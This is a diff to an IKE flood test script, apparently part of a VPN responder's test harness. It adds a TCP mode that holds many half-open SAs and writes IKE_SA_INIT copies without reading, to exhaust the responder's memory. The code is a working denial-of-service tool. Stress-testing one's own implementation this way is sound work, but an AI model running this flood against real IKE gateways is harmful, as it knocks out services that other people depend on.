@@ -5,6 +5,17 @@ over a raw socket (root, in the attacker's network namespace).
 
     ike_flood.py DST_IP PEER_IP SRC_PREFIX COUNT
     ike_flood.py --cookies DST_IP COUNT [INTERVAL_S]
+    ike_flood.py --tcp DST_IP PORT SRC_PREFIX ADDRESSES PER_ADDRESS SECONDS
+
+With --tcp (RFC 9329, issue 29 item 2), the attacker opens PER_ADDRESS
+connections from each of ADDRESSES addresses (SRC_PREFIX.1.1 and on, which
+it must hold), with receive buffers as small as the kernel allows. On each
+it sends "IKETCP" and an IKE_SA_INIT, returns the COOKIE if asked, until the
+responder keeps a half-open SA for it; then, for SECONDS, it writes that
+same request over and over on every connection and never reads again.
+A responder that answers every copy and queues what is not read holds
+MiBs per connection. It prints "flooding" when the flood starts and a
+summary at the end.
 
 With --cookies, the attacker is one real address (its own, over a plain
 UDP socket): it sends COUNT IKE_SA_INIT requests, INTERVAL_S apart
@@ -123,6 +134,84 @@ def cookie_flood(dst, count, interval):
              count + answered - seen["state"] - seen["cookie"] - seen["other"]), flush=True)
 
 
+def framed(msg):
+    """An IKE message in an RFC 9329 stream: Length, the non-ESP marker."""
+    return struct.pack("!H", 2 + 4 + len(msg)) + b"\0\0\0\0" + msg
+
+
+def read_frame(s):
+    """The next IKE message of stream `s` (blocking), or None."""
+    def exactly(n):
+        b = b""
+        while len(b) < n:
+            chunk = s.recv(n - len(b))
+            if not chunk:
+                return None
+            b += chunk
+        return b
+    head = exactly(2)
+    if head is None:
+        return None
+    body = exactly(struct.unpack("!H", head)[0] - 2)
+    return None if body is None else body[4:]
+
+
+def tcp_half_open(dst, port, src):
+    """A connection from `src` on which the responder keeps a half-open
+    SA: (socket, the framed request it answered), or None."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # the least the kernel gives
+    s.bind((src, 0))
+    s.settimeout(5)
+    try:
+        s.connect((dst, port))
+        msg = ike_sa_init(random.getrandbits(64) | 1)
+        s.sendall(b"IKETCP" + framed(msg))
+        for _ in range(2):
+            _, kind = answer_kind(read_frame(s) or b"")
+            if kind == "state":
+                s.setblocking(False)
+                return s, framed(msg)
+            if not isinstance(kind, tuple):
+                break
+            msg = with_cookie(msg, kind[1])
+            s.sendall(framed(msg))
+    except OSError:
+        pass
+    s.close()
+    return None
+
+
+def tcp_flood(dst, port, prefix, addresses, per_address, seconds):
+    conns = []
+    for a in range(addresses):
+        src = "%s.%d.%d" % (prefix, 1 + a // 250, 1 + a % 250)
+        for _ in range(per_address):
+            c = tcp_half_open(dst, port, src)
+            if c:
+                conns.append(c)
+    print("flooding: %d connections of %d hold a half-open SA; writing their IKE_SA_INIT again and again for %d s, reading nothing"
+          % (len(conns), addresses * per_address, seconds), flush=True)
+    sent = blocked = closed = 0
+    end = time.time() + seconds
+    while time.time() < end and conns:
+        for c in list(conns):
+            s, frame = c
+            try:
+                sent += s.send(frame * 32) // len(frame)
+            except BlockingIOError:
+                blocked += 1
+            except OSError:
+                closed += 1
+                conns.remove(c)
+                s.close()
+        time.sleep(0.01)
+    print("flood done: %d IKE_SA_INIT copies written, %d writes blocked (the responder stopped reading), %d connections closed by it, %d left"
+          % (sent, blocked, closed, len(conns)), flush=True)
+    for s, _ in conns:
+        s.close()
+
+
 def ipv4_udp(src, dst, sport, dport, data):
     udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data  # no checksum (IPv4)
     total = 20 + len(udp)
@@ -138,6 +227,10 @@ def ipv4_udp(src, dst, sport, dport, data):
 
 
 def main():
+    if sys.argv[1] == "--tcp":
+        dst, port, prefix = sys.argv[2], int(sys.argv[3]), sys.argv[4]
+        tcp_flood(dst, port, prefix, int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]))
+        return
     if sys.argv[1] == "--cookies":
         interval = float(sys.argv[4]) if len(sys.argv) > 4 else 0.002
         cookie_flood(sys.argv[2], int(sys.argv[3]), interval)
